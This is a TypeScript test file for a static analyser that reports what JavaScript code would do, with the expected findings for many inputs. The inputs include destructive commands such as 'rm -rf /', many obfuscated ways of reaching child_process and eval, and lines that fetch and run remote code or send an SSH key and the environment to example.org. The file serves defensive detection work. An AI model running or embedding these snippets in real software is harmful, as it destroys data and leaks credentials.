/** What JavaScript and TypeScript would do, whatever they are written like, and that harmless code does nothing. */
import assert from "node:assert/strict";
import { test } from "node:test";
import { deedsOf, outputOf, unreadOf } from "../../../../../test/lib/code-deeds.ts";

const does = (what: string, code: string, ...wanted: readonly string[]) =>
  test(`${what}: ${code.slice(0, 60)}`, () => {
    assert.deepEqual(deedsOf("javascript", code), wanted);
  });

const base64 = (text: string): string => Buffer.from(text).toString("base64");

// Commands.
does("a command", 'require("child_process").execSync("rm -rf /")', "shell rm -rf /");
does("a name taken out of the library", 'const { execSync: e } = require("child_process"); e("id")', "shell id");
does("an import", 'import { exec } from "node:child_process"; exec("id")', "shell id");
does("an import of everything", 'import * as cp from "child_process"; cp.exec("id")', "shell id");
does("an import at run time", '(await import("node:child_process")).exec("id")', "shell id");
does("an import that is awaited by then", 'import("child_process").then(({ exec }) => exec("id"))', "shell id");
does("names put together", 'require("child_" + "process")["ex" + "ec"]("id")', "shell id");
does("the main module", 'process["main" + "Module"].require("child_process").exec("id")', "shell id");
does("the loader by its inner name", 'module.constructor._load("child_process").exec("id")', "shell id");
does("words", 'require("child_process").spawn("rm", ["-rf", "/x"])', "run rm -rf /x");
does("words with a shell", 'require("child_process").spawn("rm -rf", ["/x"], { shell: true })', "shell rm -rf /x");
does("a tagged text", "await $`rm -rf ${dir}`", "shell rm -rf ?");
does("a template", 'const d = "/x"; require("child_process").exec(`rm -rf ${d}`)', "shell rm -rf /x");
does("letters from numbers", 'require("child_process").exec([105, 100].map((c) => String.fromCharCode(c)).join(""))', "shell id");
does("letters backwards", 'require("child_process").exec("di".split("").reverse().join(""))', "shell id");
does("a replacement", 'require("child_process").exec("rZ -rf /".replace(/Z/g, "m"))', "shell rm -rf /");
does("promisify", 'const run = require("util").promisify(require("child_process").exec); await run("id")', "shell id");
does("call and apply", 'const cp = require("child_process"); cp.exec.call(null, "id"); cp.exec.apply(cp, ["ls"])', "shell id", "shell ls");
does("an argument of the program", 'require("fs").unlinkSync(process.argv[1])', "delete first");

// Code that hides code.
does("eval", "eval(\"require('fs').unlinkSync('/x')\")", "delete /x");
does("eval under another name", "const e = eval; e(\"require('fs').unlinkSync('/x')\")", "delete /x");
does("eval by its name", 'globalThis["ev" + "al"]("require(\'fs\').unlinkSync(\'/x\')")', "delete /x");
does("base64", `eval(Buffer.from("${base64("require('fs').unlinkSync('/x')")}", "base64").toString())`, "delete /x");
does("atob", `eval(atob("${base64("require('fs').unlinkSync('/x')")}"))`, "delete /x");
does("Function", "new Function(\"require('fs').unlinkSync('/x')\")()", "delete /x");
does("a constructor's constructor", '[]["flat"]["constructor"]("return process")().mainModule.require("fs").rmSync("/x")', "delete /x");
does("a text for a timer", "setTimeout(\"require('fs').unlinkSync('/x')\", 1)", "delete /x");
does("vm", "require(\"vm\").runInThisContext(\"require('fs').unlinkSync('/x')\")", "delete /x");
does(
  "what is fetched",
  'fetch("http://example.org/x").then((r) => r.text()).then((t) => eval(t))',
  "GET http://example.org/x",
  "code ? from the network",
);
does(
  "what is fetched and awaited",
  'const r = await fetch("http://example.org/x"); new Function(await r.text())()',
  "GET http://example.org/x",
  "code ? from the network",
);
does(
  "what comes in pieces",
  'require("https").get("http://example.org/x", (r) => { let d = ""; r.on("data", (c) => (d += c)); r.on("end", () => eval(d)); })',
  "GET http://example.org/x",
  "perhaps code ? from the network",
);

// Files and flows.
does("a file", 'require("fs").unlinkSync("/x")', "delete /x");
does("a tree", 'require("fs").rmSync("/x", { recursive: true, force: true })', "delete /x (whole)");
does("promises", 'await require("fs").promises.rm("/x", { recursive: true })', "delete /x (whole)");
does("rimraf", 'require("rimraf").sync("/x")', "delete /x (whole)");
does("all of a folder", 'const fs = require("fs"); for (const f of fs.readdirSync("/d")) fs.unlinkSync("/d/" + f)', "perhaps delete /d/?");
does("the home", 'require("fs").rmSync(require("path").join(require("os").homedir(), "x"))', "delete /home/dev/x");
does("a file that is written", 'require("fs").writeFileSync("/x", "hi")', "overwrite /x");
does(
  "what was fetched into a file",
  'require("fs").writeFileSync("x.sh", await (await fetch("http://example.org")).text())',
  "GET http://example.org",
  "overwrite x.sh from the network",
);
does(
  "a secret file to the network",
  'fetch("http://example.org", { method: "POST", body: require("fs").readFileSync("/home/dev/.ssh/id_rsa") })',
  "read /home/dev/.ssh/id_rsa",
  "POST http://example.org carrying secret",
);
does(
  "the environment to the network",
  'require("axios").post("http://example.org", JSON.stringify(process.env))',
  "POST http://example.org carrying secret",
);
does(
  "a shell on a connection",
  'const net = require("net"); const c = new net.Socket(); c.connect(4444, "example.org", () => {})',
  "CONNECT example.org:4444",
);
does("a process", "process.kill(1, 'SIGKILL')", "kill 1");
does("another file", 'require("./other.js")', "run file ./other.js");
does("a class", 'class A { constructor(p) { this.p = p } go() { require("fs").rmSync(this.p) } }\nnew A("/x").go()', "delete /x");
does("a function above its line", 'go(); function go() { require("fs").rmSync("/x") }', "delete /x");
does("types", 'import { rmSync } from "node:fs"; const go = (p: string): void => rmSync(p as any); go("/x")', "delete /x");
does("either branch", 'const p = x ? "/a" : "/b"; require("fs").rmSync(p)', "delete /?");
does("a case", 'switch (x) { case 1: require("fs").rmSync("/x"); break; default: y() }', "perhaps delete /x");
does("a database", 'const { Client } = require("pg"); new Client().query("DROP TABLE a")', "data DROP TABLE a");

const harmless = (code: string) =>
  test(`nothing is done, and nothing is unread: ${code.slice(0, 60)}`, () => {
    assert.deepEqual([deedsOf("javascript", code), unreadOf("javascript", code)], [[], []]);
  });

harmless('console.log("rm -rf /")');
harmless("console.log(1)");
harmless('const a = JSON.parse(require("fs").readFileSync(0, "utf8")); console.log(a.b.map((x) => x.c).join("\\n"))');
harmless("for (let i = 0; i < 1e9; i++) x += i; console.log(x)");
harmless("const s = \"require('child_process').exec('rm -rf /')\"; console.log(s.length)");
harmless('console.log(Object.entries(process.versions).map(([k, v]) => `${k}: ${v}`).join("\\n"))');
harmless("console.log(crypto.randomUUID(), Math.max(...[1, 2, 3]), new Date().toISOString())");
harmless('import React from "react"; export const A = ({ x }) => <div onClick={() => x("rm -rf /")}>{x}</div>;');
harmless("interface A { b: number } enum C { D } type E<T> = T[]; const f = <T,>(x: T): T => x; f<number>(1)");
harmless('throw new Error("DROP TABLE users")');
harmless("async function* g() { for await (const x of y()) yield x; } label: for (;;) { break label }");

test("a function of a strong library that nobody can name is unread", () => {
  assert.deepEqual(unreadOf("javascript", 'const fs = require("fs"); fs[process.argv[9]]("/x")'), [
    "a function of `fs` chosen at run time",
  ]);
});

test("what is printed is known where all of it is", () => {
  assert.equal(outputOf("javascript", 'console.log("rm", "-rf", 1)'), "rm -rf 1\n");
  assert.equal(outputOf("javascript", 'process.stdout.write(["a", "b"].join("-"))'), "a-b");
  assert.equal(outputOf("javascript", 'console.log(unknown); console.log("a")'), undefined);
  assert.equal(outputOf("javascript", 'require("./other.js"); console.log("a")'), undefined);
});

// What a reading takes for known must be what would be there.
const hidden = (what: string, code: string) =>
  test(`${what} does not make a text known that it is not`, () => {
    const deeds = deedsOf("javascript", `const cp = require("child_process");\n${code}`);
    assert.ok(deeds.length > 0);
    for (const deed of ["shell ls", "perhaps shell ls"]) assert.ok(!deeds.includes(deed), deeds.join("; "));
  });

hidden("a name of a block", 'let x = "rm -rf /"; { let x = "ls"; } cp.exec(x)');
hidden("a name of a branch", 'const x = "rm -rf /"; if (true) { const x = "ls"; } cp.exec(x)');
hidden("a name of a loop", 'let x = "rm -rf /"; for (let x = "ls"; false; ) {} cp.exec(x)');
hidden("a name of a whole function", 'var x = "ls"; { var x = "rm -rf /"; } cp.exec(x)');
hidden("a loop that may end early", 'let x = "rm -rf /"; for (const i of [1, 2]) { if (y()) break; x = "ls"; } cp.exec(x)');
hidden("what stops in the middle", 'let x = "ls"; try { x = "rm -rf /"; y(); x = "ls"; } catch {} cp.exec(x)');
hidden("an object that takes over another one", 'const o = { c: "ls" }; Object.assign(o, { c: "rm -rf /" }); cp.exec(o.c)');
hidden("an object that somebody else was given", 'const o = { c: "ls" }; change(o); cp.exec(o.c)');
hidden("an outermost name", 'var c = "ls"; globalThis.c = "rm -rf /"; cp.exec(c)');
